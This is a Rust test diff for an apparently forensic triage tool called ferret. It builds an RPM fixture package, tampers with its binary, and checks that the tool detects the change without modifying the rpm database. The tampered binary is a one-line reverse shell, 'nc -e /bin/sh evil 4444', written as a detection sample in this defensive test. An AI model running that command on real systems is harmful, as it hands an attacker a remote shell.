@@ -290,3 +290,80 @@ fn special_files_never_block_and_are_reported() {
         assert_eq!(devices, 4, "root can create device nodes");
     }
 }
+
+/// A package with a binary, a library, a `%config` file and a symlink, for an rpm root.
+const RPM_SPEC: &str = r"Name: ferret-sound
+Version: 1
+Release: 1
+Summary: soundness fixture
+License: MIT
+BuildArch: noarch
+%description
+soundness fixture
+%install
+mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/lib64 %{buildroot}/etc/sound
+printf '#!/bin/sh\necho sound\n' > %{buildroot}/usr/bin/sound
+printf 'lib\n' > %{buildroot}/usr/lib64/libsound.so.1
+printf 'k=v\n' > %{buildroot}/etc/sound/sound.conf
+ln -s sound %{buildroot}/usr/bin/sound-link
+%files
+%attr(0755,root,root) /usr/bin/sound
+/usr/bin/sound-link
+/usr/lib64/libsound.so.1
+%dir /etc/sound
+%config(noreplace) /etc/sound/sound.conf
+";
+
+#[test]
+fn verifying_an_rpm_root_leaves_no_trace_and_creates_nothing() {
+    // rpm itself opens its database read-write (lock file, SQLite -shm/-wal); ferret's reader
+    // must not: no file appears beside the database, no timestamp moves.
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path().join("root");
+    std::fs::create_dir(&root).unwrap();
+    common::clean_root(&root);
+    ferret_testkit::rpm::install(work.path(), &root, RPM_SPEC);
+    std::fs::write(
+        root.join("usr/bin/sound"),
+        "#!/bin/sh\nnc -e /bin/sh evil 4444\n",
+    )
+    .unwrap();
+    let db_dir = root.join("var/lib/rpm");
+    let db_files: Vec<String> = std::fs::read_dir(&db_dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert!(!db_files.is_empty(), "rpm wrote its database");
+    let paths = all_paths(&root);
+    reset_atimes(&paths);
+    let before = snapshot(&paths);
+
+    let mut o = TriageOptions::new(HostRoot::new(&root).unwrap());
+    o.only = Some(vec![ferret::triage::Module::Packages]);
+    let r = triage(&o);
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.id == "pkg.binary-changed" && f.subject == "/usr/bin/sound"),
+        "the rpm database was read and the tampered binary found: {:#?}",
+        r.findings
+            .iter()
+            .map(|f| (&f.id, &f.subject))
+            .collect::<Vec<_>>()
+    );
+
+    // Nothing moved; then, listed again (listing touches directory atimes, so after the
+    // snapshot), nothing appeared: no lock, -shm, -wal or __db.* file.
+    let after = snapshot(&paths);
+    let d = diff(&before, &after);
+    assert!(
+        d.is_empty(),
+        "verifying the rpm root changed it:\n{}",
+        d.join("\n")
+    );
+    let mut now = all_paths(&root);
+    let mut was = paths;
+    now.sort();
+    was.sort();
+    assert_eq!(now, was, "files appeared or vanished");
+}
